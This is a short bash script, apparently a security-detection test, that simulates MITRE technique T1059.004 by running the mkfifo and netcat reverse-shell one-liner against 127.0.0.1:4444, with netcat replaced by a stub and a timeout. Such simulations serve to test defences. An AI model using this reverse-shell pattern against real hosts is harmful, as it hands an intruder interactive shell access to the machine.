#!/usr/bin/env bash
# attack: T1059.004 mkfifo and netcat reverse shell
. "$(dirname "$0")/lib/common.sh"
fake nc
export PATH=$SW/bin:$PATH
timeout 10 sh -c "rm -f /tmp/f$$; mkfifo /tmp/f$$; cat /tmp/f$$ | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 >/tmp/f$$" 2>/dev/null
rm -f /tmp/f$$
